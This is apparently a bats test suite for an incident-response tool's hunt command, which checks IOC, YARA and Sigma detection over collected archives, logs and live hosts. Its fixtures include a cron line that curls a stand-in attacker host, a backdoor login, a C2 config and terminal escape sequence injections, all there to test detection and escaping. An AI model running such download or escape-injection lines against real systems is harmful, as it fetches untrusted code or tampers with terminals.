#!/usr/bin/env bats
# irt hunt: IOCs and YARA over archives, trees, logs and the live host.

load helper

setup() {
	setup_common
	DATA="$IRT_SRC/tests/data/hunt"
	mkdir -p "$TMP/root/var/log" "$TMP/root/opt/x" "$TMP/root/etc"
	printf 'Nov 27 21:14:39 web01 sshd[812]: Accepted publickey for backdoor from 198.51.100.23 port 4242 ssh2\nNov 27 21:15:00 web01 cron[9]: (root) CMD (curl -s http://evil.example/x)\n' >"$TMP/root/var/log/auth.log"
	printf 'server=c2.evil.example\nbeacon_interval=60\n' >"$TMP/root/opt/x/implant.conf"
	printf 'nothing\n' >"$TMP/root/etc/hosts"
	printf 'description t\nfile /var/log/**\nfile /opt/**\nfile /etc/**\n' >"$TMP/p.profile"
}

teardown() {
	teardown_common
}

collect() {
	irt collect --root "$TMP/root" --no-live --profile "$TMP/p.profile" "$@" >/dev/null 2>&1
}

@test "hunt: an archive with an IOC file, exit status as grep" {
	collect -o "$TMP/a.tar.gz"
	printf '198.51.100.0/24\n' >"$TMP/iocs.txt"
	run irt hunt --ioc "$TMP/iocs.txt" "$TMP/a.tar.gz"
	[ "$status" -eq 0 ]
	assert_contains "$output" "cidr 198.51.100.0/24"
	assert_contains "$output" "/var/log/auth.log:1  message: 198.51.100.23"
	printf '192.0.2.0/24\n' >"$TMP/none.txt"
	run irt hunt --ioc "$TMP/none.txt" "$TMP/a.tar.gz"
	[ "$status" -eq 1 ]
	assert_contains "$output" "0 hits"
	run irt hunt --ioc "$TMP/none.txt" "$TMP/nonexistent.tar.gz"
	[ "$status" -eq 2 ]
	run irt hunt "$TMP/a.tar.gz"
	[ "$status" -eq 2 ]
	assert_contains "$output" "nothing to hunt with"
}

@test "hunt --content --yara --json: content and YARA hits with stable fields" {
	collect -o "$TMP/a.tar.gz"
	printf 'evil.example\n' >"$TMP/iocs.txt"
	run irt hunt --json --content --ioc "$TMP/iocs.txt" --yara "$DATA/rules.yar" "$TMP/a.tar.gz"
	[ "$status" -eq 0 ]
	echo "$output" | grep '^{' | python3 -c '
import json, sys
hits = [json.loads(l) for l in sys.stdin]
keys = {"kind","rule_id","title","level","tags","host","time","source","location","line","offset","field","match","event"}
assert all(set(h) == keys for h in hits), hits
y = [h for h in hits if h["kind"] == "yara"]
assert len(y) == 1 and y[0]["title"] == "rules.yar:beacon_config" and y[0]["level"] == "high", y
assert y[0]["location"] == "fs/opt/x/implant.conf" and y[0]["match"] == "beacon_interval=", y
c = [h for h in hits if h["field"] == "content"]
assert any(h["location"] == "fs/opt/x/implant.conf" and h["offset"] == 10 for h in c), c
e = [h for h in hits if h["event"] is not None]
assert e and e[0]["event"]["type"].startswith("syslog"), e
'
}

@test "hunt --ioc --yara: a log read as events is still scanned whole by YARA" {
	collect -o "$TMP/a.tar.gz"
	printf '198.51.100.23\n' >"$TMP/iocs.txt"
	# the IP is in the first line: the bytes read to tell the log's kind
	printf 'rule first_line { strings: $a = "198.51.100.23" condition: $a }\n' >"$TMP/ip.yar"
	run irt hunt --yara "$TMP/ip.yar" "$TMP/a.tar.gz"
	[ "$status" -eq 0 ]
	assert_contains "$output" "ip.yar:first_line"
	run irt hunt --ioc "$TMP/iocs.txt" --yara "$TMP/ip.yar" "$TMP/a.tar.gz"
	[ "$status" -eq 0 ]
	assert_contains "$output" "ip.yar:first_line"
	assert_contains "$output" "fs/var/log/auth.log@"
	assert_contains "$output" "/var/log/auth.log:1  message: 198.51.100.23"
}

@test "hunt --yara: every member scanned whole, from irt collect's gzip members and from one tar -z member" {
	# small, empty, and large members (larger than a gzip member of irt
	# collect), the marker at varying offsets (past the first 4 KiB
	# too), scanned on threads
	python3 - "$TMP/root/opt/many" <<'PY'
import os, random, sys
d = sys.argv[1]
os.makedirs(d)
random.seed(5)
block = bytes(random.getrandbits(8) for _ in range(4096))
for i in range(200):
    n = [0, 100, 5000, 70000, 200000][i % 5]
    if i % 25 == 4:
        n = 3 << 19
    b = bytearray(block * (n // 4096 + 1))[:n]
    if n and i % 3:
        off = (i * 7919) % (n - 13) if n > 14 else 0
        b[off:off + 14] = b"implant-marker"
    open(os.path.join(d, "f%03d" % i), "wb").write(bytes(b))
PY
	collect -o "$TMP/a.tar.gz"
	printf 'rule m { strings: $a = "implant-marker" condition: $a }\n' >"$TMP/m.yar"
	# expected: the members holding the marker
	python3 - "$TMP/a.tar.gz" <<'PY' | sort >"$TMP/want"
import sys, tarfile
with tarfile.open(sys.argv[1]) as t:
    for m in t:
        if m.isfile() and "/opt/many/" in m.name and b"implant-marker" in t.extractfile(m).read():
            print(m.name[2:] if m.name.startswith("./") else m.name)
PY
	[ "$(wc -l <"$TMP/want")" -gt 80 ]
	run --separate-stderr irt hunt --no-record --json --yara "$TMP/m.yar" "$TMP/a.tar.gz"
	[ "$status" -eq 0 ]
	echo "$output" | grep "^{" | python3 -c 'import json, sys; [print(json.loads(l)["location"]) for l in sys.stdin]' | sort >"$TMP/got"
	diff "$TMP/want" "$TMP/got"
	# the same files as one gzip member, and as two members of which the
	# first is larger than 1 MiB: the same hits
	tar -C "$TMP/root" -czf "$TMP/b.tar.gz" opt/many
	run --separate-stderr irt hunt --no-record --json --yara "$TMP/m.yar" "$TMP/b.tar.gz"
	[ "$status" -eq 0 ]
	echo "$output" | grep "^{" | python3 -c 'import json, sys; [print(json.loads(l)["location"]) for l in sys.stdin]' | sed 's|^opt|fs/opt|' | sort >"$TMP/got"
	diff "$TMP/want" "$TMP/got"
	tar -C "$TMP/root" -cf "$TMP/c.tar" opt/many
	size=$(stat -c %s "$TMP/c.tar")
	{ head -c $((size / 2)) "$TMP/c.tar" | gzip; tail -c +$((size / 2 + 1)) "$TMP/c.tar" | gzip; } >"$TMP/c.tar.gz"
	run --separate-stderr irt hunt --no-record --json --yara "$TMP/m.yar" "$TMP/c.tar.gz"
	[ "$status" -eq 0 ]
	echo "$output" | grep "^{" | python3 -c 'import json, sys; [print(json.loads(l)["location"]) for l in sys.stdin]' | sed 's|^opt|fs/opt|' | sort >"$TMP/got"
	diff "$TMP/want" "$TMP/got"
	# cut inside its last member: the hits before the damage, a warning
	head -c $(($(stat -c %s "$TMP/c.tar.gz") - 5000)) "$TMP/c.tar.gz" >"$TMP/t.tar.gz"
	run --separate-stderr irt hunt --no-record --json --yara "$TMP/m.yar" "$TMP/t.tar.gz"
	assert_contains "$stderr" "t.tar.gz"
	[ "$(echo "$output" | grep -c '"location"')" -gt 50 ]
}

@test "hunt --yara: a broken rule file is named with its line, the others still run" {
	collect -o "$TMP/a.tar.gz"
	run irt hunt --yara "$DATA/broken.yar" --yara "$DATA/rules.yar" "$TMP/a.tar.gz"
	[ "$status" -eq 0 ]
	assert_contains "$output" "broken.yar:6: undefined string"
	assert_contains "$output" "rules.yar:beacon_config"
	run irt hunt --yara "$DATA/broken.yar" "$TMP/a.tar.gz"
	[ "$status" -eq 2 ]
	assert_contains "$output" "no YARA rule file compiled"
}

@test "hunt in a case: the case's IOCs over every evidence archive, recorded in one commit" {
	make_case
	cd "$TMP/case"
	collect -m "triage"
	irt ioc add evil.example >/dev/null
	uid=$(irt ioc add -t user backdoor)
	run irt hunt -m "first sweep"
	[ "$status" -eq 0 ]
	assert_contains "$output" "user backdoor"
	assert_contains "$output" "hunt "
	git log -1 --format=%B | grep -qx 'Irt-Action: hunt'
	rec=$(git ls-files 'hunts/*/record')
	[ -n "$rec" ]
	grep -q '^source = archive:' "$rec"
	grep -qx 'case-iocs = 2' "$rec"
	grep -qx "hits = $(wc -l <"${rec%record}hits.jsonl")" "$rec"
	grep -q "\"rule_id\":\"$uid\"" "${rec%record}hits.jsonl"
	run irt case show
	assert_contains "$output" "hunts"
	# a retired IOC no longer matches
	irt ioc retire -m "test account" "$uid"
	run irt hunt --no-record --json
	assert_not_contains "$output" "\"rule_id\":\"$uid\""
	[ "$(git ls-files 'hunts/*/record' | wc -l)" -eq 1 ]
}

@test "hunt: sources of the timeline, fs trees with FIFOs and escapes in matches" {
	printf '\033]0;owned\007 evil.example\n' >"$TMP/root/opt/x/esc.txt"
	mkfifo "$TMP/root/opt/x/fifo"
	printf 'evil.example\n' >"$TMP/iocs.txt"
	run timeout 60 "$IRT" hunt --content --ioc "$TMP/iocs.txt" "fs:$TMP/root" "syslog:$TMP/root/var/log/auth.log"
	[ "$status" -eq 0 ]
	assert_contains "$output" "esc.txt@"
	assert_not_contains "$output" $'\033'
	assert_contains "$output" "syslog:$TMP/root/var/log/auth.log"
	run irt hunt --format timesketch-jsonl --ioc "$TMP/iocs.txt" "syslog:$TMP/root/var/log/auth.log"
	[ "$status" -eq 0 ]
	echo "$output" | grep '^{' | python3 -c '
import json, sys
for l in sys.stdin:
    d = json.loads(l)
    assert "irt-hunt" in d["tag"] and d["datetime"] and d["message"], d
'
}

@test "hunt --live: the running host's processes and sockets" {
	printf '127.0.0.0/8\n::1/128\n' >"$TMP/iocs.txt"
	python3 -c 'import socket,sys,time; s=socket.socket(); s.bind(("127.0.0.1",0)); s.listen(); open(sys.argv[1],"w").close(); time.sleep(60)' "$TMP/ready" &
	pid=$!
	for _ in $(seq 1 600); do [ -e "$TMP/ready" ] && break; sleep 0.05; done
	[ -e "$TMP/ready" ]
	run irt hunt --live --json --ioc "$TMP/iocs.txt"
	kill $pid
	[ "$status" -eq 0 ]
	assert_contains "$output" '"source":"live:sockets"'
}

@test "hunt --live --root: the logs of that root, not of /var/log" {
	mkdir -p "$TMP/r/var/log"
	echo 'Nov 27 10:00:00 web01 sshd[9]: Accepted publickey for root from 198.51.100.61 port 4022' \
	    >"$TMP/r/var/log/auth.log"
	printf '198.51.100.61\n' >"$TMP/iocs.txt"
	run --separate-stderr irt hunt --live --root "$TMP/r/" --json --no-record \
	    --host web01 --ioc "$TMP/iocs.txt"
	[ "$status" -eq 0 ]
	[ "$(jq -r 'select(.field == "message") | .source' <<<"$output")" = \
	    "syslog:$TMP/r/var/log/auth.log" ]
	[ "$(jq -r 'select(.field == "message") | .host' <<<"$output")" = web01 ]
	# --root is for --live, and must be a folder
	run irt hunt --root "$TMP/r" --ioc "$TMP/iocs.txt" "$TMP/r"
	[ "$status" -eq 2 ]
	assert_contains "$output" "irt: --root needs --live"
	run irt hunt --live --root "$TMP/r/var/log/auth.log" --ioc "$TMP/iocs.txt"
	[ "$status" -eq 2 ]
	assert_contains "$output" "irt: cannot use '$TMP/r/var/log/auth.log' as root: not a directory"
}

@test "hunt: a truncated or corrupt archive gives what it holds before the damage, with a warning" {
	collect -o "$TMP/a.tar.gz"
	printf 'evil.example\n' >"$TMP/iocs.txt"
	size=$(stat -c %s "$TMP/a.tar.gz")
	head -c $((size - 200)) "$TMP/a.tar.gz" >"$TMP/t.tar.gz"
	run irt hunt --no-record --content --ioc "$TMP/iocs.txt" "$TMP/t.tar.gz"
	assert_contains "$output" "evil.example"
	assert_contains "$output" "t.tar.gz: corrupt archive, stopped"
	# not gzip at all, and gzip of garbage
	printf 'not an archive\n' >"$TMP/x.tar.gz"
	run irt hunt --no-record --ioc "$TMP/iocs.txt" "archive:$TMP/x.tar.gz"
	[ "$status" -eq 2 ]
	assert_contains "$output" "x.tar.gz"
	head -c 100000 /dev/urandom | gzip >"$TMP/g.tar.gz"
	run irt hunt --no-record --ioc "$TMP/iocs.txt" "archive:$TMP/g.tar.gz"
	[ "$status" -ne 0 ]
	assert_contains "$output" "g.tar.gz"
}

# Two hosts: the intruder's login is planted on db02 only; both have a
# key login and a cron job, db02's with an escape sequence in it.
two_hosts() {
	for h in web01 db02; do
		mkdir -p "$TMP/$h/var/log" "$TMP/$h/etc"
		echo "$h" >"$TMP/$h/etc/hostname"
	done
	printf 'Nov 27 21:10:00 web01 sshd[700]: Accepted publickey for deploy from 10.0.0.2 port 50000 ssh2\nNov 27 21:12:00 web01 CRON[701]: (root) CMD (/usr/lib/sa/sa1 1 1)\n' >"$TMP/web01/var/log/auth.log"
	printf 'Nov 27 21:14:39 db02 sshd[812]: Accepted publickey for deploy from 10.0.0.2 port 50001 ssh2\nNov 27 21:14:40 db02 sshd[813]: Accepted publickey for backdoor from 198.51.100.23 port 4242 ssh2\nNov 27 21:15:00 db02 CRON[9]: (root) CMD (curl -s http://evil.example/\033]0;owned\007x)\n' >"$TMP/db02/var/log/auth.log"
	for h in web01 db02; do
		irt collect --root "$TMP/$h" --no-live --profile "$TMP/p.profile" -o "$TMP/$h.tar.gz" >/dev/null 2>&1
	done
}

@test "hunt --sigma: a rule set over two hosts finds the planted event on exactly its host and source" {
	two_hosts
	run --separate-stderr irt hunt --json --sigma "$IRT_SRC/tests/data/hunt/sigma" "$TMP/web01.tar.gz" "$TMP/db02.tar.gz"
	[ "$status" -eq 0 ]
	echo "$output" | python3 -c '
import json, sys
hits = [json.loads(l) for l in sys.stdin]
keys = {"kind","rule_id","title","level","tags","host","time","source","location","line","offset","field","match","event"}
assert all(set(h) == keys and h["kind"] == "sigma" for h in hits), hits
b = [h for h in hits if h["rule_id"] == "5d2c3f4e-7a1b-4a2b-9c3d-3f1a8e2b6c01"]
assert len(b) == 1, b
b = b[0]
assert b["host"] == "db02" and b["source"].endswith("db02.tar.gz:fs/var/log/auth.log"), b
assert b["title"] == "Login Of The Backdoor Account" and b["level"] == "high", b
assert b["tags"] == ["attack.persistence", "attack.t1098.004"], b
assert b["time"] == "2026-11-27T21:14:40.000000000Z" and b["line"] == 2, b
assert "Accepted publickey for backdoor" in b["event"]["message"], b
assert b["event"]["fields"]["user"] == "backdoor", b
# the key logins but the backdoor one, one per host; the cron download on db02
k = sorted((h["host"], h["line"]) for h in hits if h["title"] == "SSH Login With A Key")
assert k == [("db02", 1), ("web01", 1)], k
c = [h for h in hits if h["title"] == "Download By A Cron Job"]
assert len(c) == 1 and c[0]["host"] == "db02" and c[0]["field"] == "message", c
assert len(hits) == 4, hits
'
	# the summary: loaded, skipped by reason, failed with its position
	assert_contains "$stderr" "irt: Sigma: 3 rules loaded, 1 skipped (1 logsource not read by irt), 1 failed to parse"
	# none of the hidden folder
	assert_not_contains "$stderr" "dot.yml"
}

@test "hunt --sigma: a broken rule and an unusable one are reported with file and reason, the others run" {
	two_hosts
	run --separate-stderr irt hunt --no-record --sigma "$IRT_SRC/tests/data/hunt/sigma" "$TMP/db02.tar.gz"
	[ "$status" -eq 0 ]
	assert_contains "$stderr" "linux/broken.yml:9:29: unknown search 'selection'"
	assert_contains "$stderr" "linux/windows_only.yml:1: skipped rule '9a8b7c6d-5e4f-4a3b-8c2d-1e0f9a8b7c05': "
	assert_contains "$output" "Login Of The Backdoor Account"
	# a rule file only of broken rules: nothing to hunt with
	run irt hunt --no-record --sigma "$IRT_SRC/tests/data/hunt/sigma/linux/broken.yml" "$TMP/db02.tar.gz"
	[ "$status" -eq 2 ]
	assert_contains "$output" "no Sigma rule loaded"
	run irt hunt --no-record --sigma "$TMP/nonexistent.yml" "$TMP/db02.tar.gz"
	[ "$status" -eq 2 ]
	assert_contains "$output" "cannot open '$TMP/nonexistent.yml'"
	# a FIFO among the rules is not read and does not hang
	mkdir "$TMP/rules"
	cp "$IRT_SRC/tests/data/hunt/sigma/sshd_backdoor_login.yml" "$TMP/rules/"
	mkfifo "$TMP/rules/fifo.yml"
	run timeout 60 "$IRT" hunt --no-record --sigma "$TMP/rules" "$TMP/db02.tar.gz"
	[ "$status" -eq 0 ]
	assert_contains "$output" "fifo.yml"
	assert_contains "$output" "Login Of The Backdoor Account"
}

@test "hunt --sigma: the table is sorted by level then time, and escaped" {
	two_hosts
	run --separate-stderr irt hunt --no-record --sigma "$IRT_SRC/tests/data/hunt/sigma" "$TMP/db02.tar.gz" "$TMP/web01.tar.gz"
	[ "$status" -eq 0 ]
	[ "${lines[0]}" = "KIND  RULE  LEVEL  HOST  TIME  SOURCE  LOCATION  MATCH" ]
	assert_contains "${lines[1]}" "sigma  Login Of The Backdoor Account  high  db02  2026-11-27T21:14:40Z"
	assert_contains "${lines[2]}" "sigma  Download By A Cron Job  medium  db02  2026-11-27T21:15:00Z"
	assert_contains "${lines[3]}" "sigma  SSH Login With A Key  low  web01  2026-11-27T21:10:00Z"
	assert_contains "${lines[4]}" "sigma  SSH Login With A Key  low  db02  2026-11-27T21:14:39Z"
	[ "${#lines[@]}" -eq 5 ]
	assert_not_contains "$output" $'\033'
	assert_contains "${lines[2]}" 'evil.example/\e]0;owned\x07x)'
}

@test "hunt in a case: the rules of rules/ are used, and the record lists each rule file with its SHA-256" {
	two_hosts
	make_case
	cd "$TMP/case"
	irt collect --root "$TMP/db02" --no-live --profile "$TMP/p.profile" -m "db02" >/dev/null 2>&1
	mkdir rules
	cp -r "$IRT_SRC/tests/data/hunt/sigma/." rules/
	git add rules
	git commit -q -m "rules: the team's Sigma rules"
	run irt hunt -m "sigma sweep"
	[ "$status" -eq 0 ]
	assert_contains "$output" "Login Of The Backdoor Account"
	git log -1 --format=%B | grep -qx 'Irt-Action: hunt'
	rec=$(git ls-files 'hunts/*/record')
	for f in sshd_backdoor_login.yml linux/broken.yml linux/cron_download.yml linux/sshd_login.yml linux/windows_only.yml; do
		grep -qx "sigma-file = rules/$f" "$rec"
		grep -qx "sigma-file-sha256 = $(sha256sum "rules/$f" | cut -d' ' -f1)" "$rec"
	done
	[ "$(grep -c '^sigma-file = ' "$rec")" -eq 5 ]
	grep -qx 'sigma-file-rules = 0 loaded, 0 skipped, 1 failed' "$rec"
	grep -qx 'sigma-file-rules = 0 loaded, 1 skipped, 0 failed' "$rec"
	grep -qx 'sigma-loaded = 3' "$rec"
	grep -qx 'sigma-skipped = 1' "$rec"
	grep -qx 'sigma-failed = 1' "$rec"
	grep -q '"kind":"sigma","rule_id":"5d2c3f4e-7a1b-4a2b-9c3d-3f1a8e2b6c01"' "${rec%record}hits.jsonl"
	run irt case verify
	[ "$status" -eq 0 ]
}
